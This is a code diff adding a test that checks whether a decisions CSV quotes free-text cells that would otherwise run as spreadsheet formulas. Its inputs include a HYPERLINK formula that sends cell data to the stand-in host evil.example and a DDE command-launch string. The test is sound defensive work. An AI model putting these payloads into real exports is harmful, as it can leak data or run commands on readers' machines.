@@ -38,6 +38,20 @@ def test_latest_decision_wins_and_bad_words_are_rejected(tmp_path, cfg):
                              '"reviewer":"x","note":null}')
 
 
+def test_free_text_cells_take_the_formula_guard(tmp_path):
+    """decisions.csv is opened by auditors in spreadsheets: a note or reviewer that would run as a formula is
+    written behind a quote, as in every CSV output; ordinary text and handles stay as typed."""
+    path = tmp_path / "decisions.csv"
+    append_decision(path, "f1", "dismiss", note='=HYPERLINK("http://evil.example/?"&A1,"x")',
+                    reviewer="@SUM(1+1)*cmd|' /C calc'!A0")
+    append_decision(path, "f2", "confirm", note="-2 points too many? see ticket 12", reviewer="@alice")
+    append_decision(path, "f3", "confirm", note="fine\n=1+1", reviewer="-bob")
+    df = pl.read_csv(path, infer_schema=False)
+    assert df.select("reviewer", "note").rows() == [
+        ("'@SUM(1+1)*cmd|' /C calc'!A0", '\'=HYPERLINK("http://evil.example/?"&A1,"x")'),
+        ("@alice", "'-2 points too many? see ticket 12"), ("-bob", "fine\n=1+1")]
+
+
 def test_unknown_finding_refused_unless_forced(tmp_path):
     with pytest.raises(DecisionError, match="unknown finding id 'zz'"):
         append_decision(tmp_path / "d.csv", "zz", "dismiss", known_ids={"a"})
